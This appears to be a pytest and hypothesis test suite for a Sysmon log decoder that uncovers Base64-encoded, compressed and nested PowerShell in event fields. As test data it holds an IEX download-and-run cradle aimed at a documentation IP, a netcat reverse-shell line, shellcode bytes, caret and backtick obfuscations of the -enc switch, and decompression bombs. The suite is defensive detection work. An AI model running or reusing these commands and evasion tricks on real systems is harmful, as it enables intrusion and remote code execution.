from __future__ import annotations

import base64
import gzip
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.sysmon.decode import DECODED_FIELDS, MAX_FOUND, MAX_LAYERS, Decoded, decode, decoded_fields
from app.sysmon.decode_bytes import MAX_BYTES, NO_TEXT
from app.sysmon.fields import FIELDS
from tests.builders import process_create, registry_value_set, wmi_filter

SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"


def b64(data: str | bytes, codec: str = "utf-16-le") -> str:
    return base64.b64encode(data.encode(codec) if isinstance(data, str) else data).decode()


def only(value: str) -> Decoded:
    (found,) = decode(value)
    return found


def texts(value: str) -> list[str]:
    return [found.text for found in decode(value)]


BEGINNINGS = [*("encodedcommand"[:length] for length in range(1, 15)), "ec"]
DASHES = ["-", "/", "–", "—", "―"]


@pytest.mark.parametrize("name", BEGINNINGS)
@pytest.mark.parametrize("dash", DASHES)
def test_powershell_takes_every_beginning_of_the_switch_and_five_dashes(name: str, dash: str) -> None:
    found = only(f"powershell.exe -NoP {dash}{name.upper()} {b64(SCRIPT)} -w hidden")
    assert found.text == SCRIPT
    assert found.how == f"{dash}{name.upper()}, Base64, UTF-16LE"


@pytest.mark.parametrize("name", ["ex", "exec", "executionpolicy", "encodex", "encodedcommandx"])
def test_other_switches_are_not_taken_for_it(name: str) -> None:
    assert only(f"powershell -{name} {b64(SCRIPT)}").how == "Base64, UTF-16LE"


@pytest.mark.parametrize(
    "line",
    [
        f'powershell -enc "{b64(SCRIPT)}"',
        f"powershell -enc '{b64(SCRIPT)}'",
        f"powershell -e^n^c {b64(SCRIPT)}",
        f'powershell -"enc" {b64(SCRIPT)}',
        f'powershell "-e"n"c" {b64(SCRIPT)}',
        f"powershell -e`nc {b64(SCRIPT)}",
        f"powershell --enc {b64(SCRIPT)}",
        f"powershell -enc     {b64(SCRIPT)}",
        f"powershell\t-enc\t{b64(SCRIPT)}\t",
        f"powershell -enc:{b64(SCRIPT)}",
        f'powershell -enc {b64(SCRIPT)[:20]}"{b64(SCRIPT)[20:]}"',
        f"powershell -enc {b64(SCRIPT)[:20]}^{b64(SCRIPT)[20:]}",
        f'cmd /c "powershell -enc \\"{b64(SCRIPT)}\\""',
        f"Start-Process powershell -ArgumentList '-enc','{b64(SCRIPT)}'",
        f"powershell -enc {b64(SCRIPT).rstrip('=')}",
        f"-enc {b64(SCRIPT)}",
    ],
)
def test_quotes_carets_and_blanks_may_stand_in_between(line: str) -> None:
    found = only(line)
    assert found.text == SCRIPT
    assert "enc" in found.how


def test_lines_that_an_encoder_broke_are_one() -> None:
    wrapped = base64.encodebytes((SCRIPT * 3).encode("utf-16-le")).decode().strip()
    assert "\n" in wrapped
    assert texts(f"powershell -enc {wrapped}") == [SCRIPT * 3]
    crlf = wrapped.replace("\n", "\r\n")
    assert texts(f"$x = FromBase64String('{crlf}')") == [SCRIPT * 3]
    assert texts(crlf) == [SCRIPT * 3]


def test_the_next_line_of_a_script_is_not_part_of_the_argument() -> None:
    assert texts(f"powershell -enc {b64('dir C:')}\nwhoami") == ["dir C:"]


def test_short_arguments_are_decoded_too() -> None:
    assert texts(f"powershell -e {b64('ls')}") == ["ls"]
    assert texts(f"powershell -ec {b64('whoami')}") == ["whoami"]


@pytest.mark.parametrize(
    "line",
    [
        "nc.exe -e powershell 192.0.2.7 443",
        "nc.exe -e cmd.exe 192.0.2.7 443",
        "cscript /e:vbscript C:\\Temp\\a.txt",
        "tool -ec abcdefgh -e ABCDEFGHIJKL",
        "grep -e deadbeefdeadbeef",
        "powershell -enc",
        "powershell -enc $env:payload",
    ],
)
def test_what_only_looks_like_the_switch_decodes_to_nothing(line: str) -> None:
    assert decode(line) == ()


@pytest.mark.parametrize(
    "call",
    [
        "[Convert]::FromBase64String('{}')",
        '[System.Convert]::FromBase64String("{}")',
        "[Convert]::fROmBASE64sTRING( ( '{}' ) )",
        "[Convert]::FromBase64String (''{}'')",
        '[Convert]::FromBase64String(\\"{}\\")',
        "eval(atob('{}'))",
        "exec(base64.b64decode('{}'))",
        "eval(base64_decode('{}'));",
    ],
)
@pytest.mark.parametrize("codec", ["utf-16-le", "utf-8", "utf-16-be", "cp1252"])
def test_calls_that_decode_are_known_in_every_encoding(call: str, codec: str) -> None:
    text = "Write-Host 'café au lait, bien sûr'" if codec != "utf-8" else "Write-Host '日本語'"
    found = only(call.format(b64(text, codec)))
    assert found.text == text
    names = {
        "utf-16-le": "UTF-16LE",
        "utf-8": "UTF-8",
        "utf-16-be": "UTF-16BE",
        "cp1252": "Windows-1252",
    }
    assert found.how.endswith(f", Base64, {names[codec]}")


def test_a_text_that_is_joined_of_pieces_is_one() -> None:
    encoded = b64(SCRIPT)
    joined = f"{encoded[:7]}' + '{encoded[7:30]}'+'{encoded[30:]}"
    assert texts(f"FromBase64String('{joined}')") == [SCRIPT]


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-8"])
def test_a_bare_text_is_found_without_any_word_before_it(codec: str) -> None:
    found = only(f"cmd /c set x={b64(SCRIPT, codec)}& run")
    assert found.text == SCRIPT
    assert found.how == ("Base64, UTF-16LE" if codec == "utf-16-le" else "Base64, UTF-8")


def test_the_places_are_those_of_the_encoded_text() -> None:
    value = f"a {b64(SCRIPT)} b -enc {b64('whoami /all')}"
    first, second = decode(value)
    assert value[first.start : first.end] == b64(SCRIPT)
    assert value[second.start : second.end] == b64("whoami /all")


def test_the_alphabet_of_addresses_is_read() -> None:
    text = "user=alice&next=/a?b>>>???"
    encoded = base64.urlsafe_b64encode(text.encode()).decode()
    assert "-" in encoded or "_" in encoded
    assert texts(f"http://www.example.net/x?t={encoded}") == [text]
    assert texts(f"http://www.example.net/t/{encoded.rstrip('=')}/x") == [text]


@pytest.mark.parametrize("pack", ["gzip", "zlib", "deflate"])
def test_packed_texts_are_unpacked(pack: str) -> None:
    data = (SCRIPT * 5).encode()
    raw = zlib.compressobj(wbits=-15)
    packed = {
        "gzip": gzip.compress(data),
        "zlib": zlib.compress(data),
        "deflate": raw.compress(data) + raw.flush(),
    }[pack]
    found = only(f"FromBase64String('{b64(packed)}')")
    assert found.text == SCRIPT * 5
    assert found.how == f"FromBase64String, Base64, {pack}, UTF-8"


def test_a_bomb_stops_at_the_limit_and_says_so() -> None:
    packer = zlib.compressobj(wbits=-15)
    block = packer.compress(b"A" * 10_000_000) + packer.flush(zlib.Z_FULL_FLUSH)
    # A block that was flushed in full says the same wherever it stands: this is a gigabyte.
    bomb = gzip.compress(b"")[:10] + block * 100
    found = only(f"FromBase64String('{b64(bomb)}')")
    assert len(found.text) == MAX_BYTES
    assert found.truncated
    assert not found.broken


def test_bombs_in_a_row_and_in_each_other_stop_too() -> None:
    bomb = gzip.compress(b"A" * 5_000_000)
    found = decode(" ".join(f"FromBase64String('{b64(bomb)}')" for _ in range(40)))
    assert 1 <= len(found) <= 3
    inner = gzip.compress(gzip.compress(gzip.compress(gzip.compress(gzip.compress(SCRIPT.encode())))))
    assert only(f"FromBase64String('{b64(inner)}')").how.endswith(NO_TEXT)


def test_a_text_within_a_text_is_decoded_layer_by_layer() -> None:
    inner = f"powershell -enc {b64(SCRIPT)}"
    found = only(f"cmd /c powershell -e {b64(inner)}")
    assert found.text == inner
    (layer,) = found.layers
    assert layer.text == SCRIPT
    assert inner[layer.start : layer.end] == b64(SCRIPT)


def test_layers_end_somewhere() -> None:
    line = "whoami"
    for _ in range(MAX_LAYERS + 3):
        line = f"powershell -enc {b64(line)}"
    depth, found = 0, decode(line)
    while found:
        depth, found = depth + 1, found[0].layers
    assert depth == MAX_LAYERS


def test_what_the_log_cut_off_is_read_as_far_as_it_goes() -> None:
    whole = f"powershell -enc {b64(SCRIPT)}"
    for missing in range(3, 30):
        found = only(whole[:-missing])
        assert SCRIPT.startswith(found.text)
        assert len(found.text) > 40
    assert only(whole[:-3]).broken
    packed = b64(gzip.compress(b"".join(b"line %d\n" % number for number in range(2000))))
    found = only(f"FromBase64String('{packed[:2000]}")
    assert found.text.startswith("line 0\nline 1\n")
    assert found.broken


def test_bytes_that_are_no_text_show_as_a_dump_where_something_said_that_they_are_real() -> None:
    shellcode = bytes([0xFC, 0xE8, 0x82, 0, 0, 0, 0x60, 0x89, 0xE5, 0x31, 0xC0, 0x64, *range(128, 250)])
    found = only(f"[Byte[]]$c = [Convert]::FromBase64String('{b64(shellcode)}')")
    assert not found.is_text
    assert found.size == len(shellcode)
    assert found.how == f"FromBase64String, Base64, {NO_TEXT}"
    assert found.text.startswith("00000000  fc e8 82 00 00 00 60 89 e5 31 c0 64 80")
    assert decode(f"tool --state={b64(shellcode)}") == ()
    program = b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(100)
    assert not only(f"echo {b64(program)} > a.b64").is_text


def test_so_many_are_decoded_and_no_more() -> None:
    line = " ".join(f"-enc {b64(f'command {number}')}" for number in range(MAX_FOUND + 20))
    assert len(decode(line)) == MAX_FOUND


def test_an_event_names_the_field_of_each_text() -> None:
    event = process_create(
        command_line=f"powershell -enc {b64('whoami')}",
        parent_command_line=f"cmd /c powershell -enc {b64('whoami')}",
        other={"ScriptBlockText": f"FromBase64String('{b64(SCRIPT, 'utf-8')}')", "Count": "4"},
    )
    assert [(name, found.text) for name, found in decoded_fields(event)] == [
        ("CommandLine", "whoami"),
        ("ParentCommandLine", "whoami"),
        ("ScriptBlockText", SCRIPT),
    ]
    assert decoded_fields(registry_value_set(details=b64(SCRIPT)))[0][0] == "Details"
    assert decoded_fields(wmi_filter(query=b64(SCRIPT)))[0][0] == "Query"
    assert set(DECODED_FIELDS) <= set(FIELDS)


def test_json_has_the_layers_within_each_other() -> None:
    document = only(f"powershell -e {b64(f'powershell -enc {b64(SCRIPT)}')}").to_json()
    assert document["how"] == "-e, Base64, UTF-16LE"
    layers = document["layers"]
    assert isinstance(layers, list)
    assert [layer["text"] for layer in layers] == [SCRIPT]


@pytest.mark.parametrize(
    "piece",
    [
        *("-e AAAAAAAA ", "-e ", "-^", "-e   ", "/abcdefghijklmnopqrstuvwxyz", "^", "=", "(("),
        *("FromBase64String('AAAAAAAA') ", "FromBase64String(", "A'+'", "'   '", "\"'", "\\\\"),
        *("A" * 20 + "\nB\n", "A\n"),
    ],
)
def test_a_megabyte_of_anything_ends_soon(piece: str) -> None:
    """Each would take minutes if a pattern read again what it has passed."""
    decode(piece * (1_000_000 // len(piece)))
    decode("FromBase64String('" + piece * (1_000_000 // len(piece)))
    decode("-enc " + piece * (1_000_000 // len(piece)))


# Properties ---------------------------------------------------------------------------------------------

LETTERS = st.text(st.characters(codec="utf-8", categories=["L", "N", "P", "Zs"]), max_size=30)
SCRIPTS = LETTERS.map(lambda text: f"Write-Output 'it says {text}, and so on' | Out-Null; exit")


@given(SCRIPTS, st.sampled_from(BEGINNINGS), st.sampled_from(DASHES), st.data())
def test_whatever_stands_behind_the_switch_comes_back(
    script: str, name: str, dash: str, data: st.DataObject
) -> None:
    letters = [data.draw(st.sampled_from([letter, letter.upper(), f"{letter}^"])) for letter in name]
    assert script in texts(f"powershell -nop {dash}{''.join(letters)} {b64(script)}")


@given(SCRIPTS, st.sampled_from(["utf-8", "utf-16-le"]))
def test_whatever_a_call_decodes_comes_back(script: str, codec: str) -> None:
    assert script in texts(f"IEX FromBase64String('{b64(script, codec)}')")


@given(SCRIPTS)
def test_a_packed_text_comes_back(script: str) -> None:
    assert script in texts(f"IEX FromBase64String('{b64(gzip.compress(script.encode()))}')")


@given(st.text(max_size=300))
def test_any_text_is_taken_as_it_is(text: str) -> None:
    for found in decode(f"-enc {text} FromBase64String('{text}')"):
        assert 0 <= found.start < found.end


@given(st.binary(max_size=300))
def test_any_bytes_are_taken_as_they_are(data: bytes) -> None:
    for found in decode(f"FromBase64String('{b64(data)}') -enc {b64(data)} {b64(data)}"):
        assert found.text


@given(st.binary(min_size=20, max_size=200))
def test_bytes_by_chance_are_no_text(data: bytes) -> None:
    if data.count(0) < len(data) // 4 and sum(32 <= byte < 127 for byte in data) < len(data) * 0.7:
        assert decode(f"tool.exe {b64(data)}") == ()


HEXADECIMAL = st.binary(min_size=8, max_size=64).map(bytes.hex)
WORD = st.text("abcdefghijklmnopqrstuvwxyz", min_size=2, max_size=14)
NAMES = st.lists(WORD, min_size=1, max_size=8).map(lambda words: "".join(word.title() for word in words))


@given(
    st.one_of(
        HEXADECIMAL,
        HEXADECIMAL.map(str.upper),
        HEXADECIMAL.map(lambda text: f"SHA256={text.upper()},MD5={text[:32]}"),
        st.uuids().map(str),
        st.uuids().map(lambda guid: f"{{{str(guid).upper()}}}"),
        st.uuids().map(lambda guid: f"HostProcess-{guid}"),
        st.lists(NAMES, min_size=2, max_size=8).map(lambda names: "C:\\" + "\\".join(names) + ".exe"),
        st.lists(NAMES, min_size=2, max_size=8).map(lambda names: "https://" + "/".join(names)),
        st.lists(NAMES, min_size=2, max_size=8).map("-".join),
        st.lists(NAMES, min_size=2, max_size=8).map("_".join),
        NAMES,
        st.integers(0, 10**60).map(str),
        st.lists(st.integers(0, 10**10), max_size=9).map(lambda numbers: "-".join(map(str, numbers))),
    ),
    st.sampled_from(["", "tool.exe ", "tool.exe /x=", '"', "-e ", "-enc "]),
)
def test_ordinary_values_are_never_decoded(value: str, before: str) -> None:
    assert decode(before + value) == ()
